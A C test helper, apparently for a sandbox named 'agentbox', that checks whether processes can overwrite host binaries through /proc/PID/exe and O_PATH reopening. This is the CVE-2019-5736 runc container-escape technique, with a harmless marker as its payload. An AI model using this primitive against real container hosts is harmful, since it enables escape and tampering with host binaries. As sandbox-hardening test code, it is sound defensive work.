/* exewrite: the CVE-2019-5736 family. For each /proc/PID/exe named (PID may be "self"): open it
 * for writing directly, and open it O_PATH and re-open that through /proc/self/fd for writing
 * after the process exits, as the runc exploit did. With "spawn PATH" it starts PATH (a host
 * binary on a read-only bind), grabs its exe, waits for it to end and then re-opens it. When an
 * open for writing succeeds it appends the marker, which only matters for the test's own copy of
 * agentbox. Prints "TARGET direct=RESULT reopen=RESULT". usage: exewrite MARKER TARGET... */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *try_write(const char *path, const char *marker)
{
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0)
        return strerrorname_np(errno);
    ssize_t w = write(fd, marker, strlen(marker));
    close(fd);
    return w < 0 ? "opened" : "WROTE";
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    const char *marker = argv[1];
    for (int i = 2; i < argc; i++) {
        char path[256];
        pid_t child = -1;
        if (strcmp(argv[i], "spawn") == 0 && i + 1 < argc) {
            const char *bin = argv[++i];
            child = fork();
            if (child == 0) {
                execl(bin, bin, "0.3", (char *)NULL);
                _exit(127);
            }
            usleep(50 * 1000);
            snprintf(path, sizeof path, "/proc/%d/exe", (int)child);
        } else {
            snprintf(path, sizeof path, "/proc/%s/exe", argv[i]);
        }
        const char *direct = try_write(path, marker);
        int opath = open(path, O_PATH | O_CLOEXEC);
        const char *re;
        if (opath < 0) {
            re = strerrorname_np(errno);
        } else {
            if (child > 0)
                waitpid(child, NULL, 0);
            char fdp[64];
            snprintf(fdp, sizeof fdp, "/proc/self/fd/%d", opath);
            re = try_write(fdp, marker);
            close(opath);
        }
        if (child > 0)
            waitpid(child, NULL, WNOHANG);
        printf("%s direct=%s reopen=%s\n", argv[i], direct, re);
    }
    return 0;
}
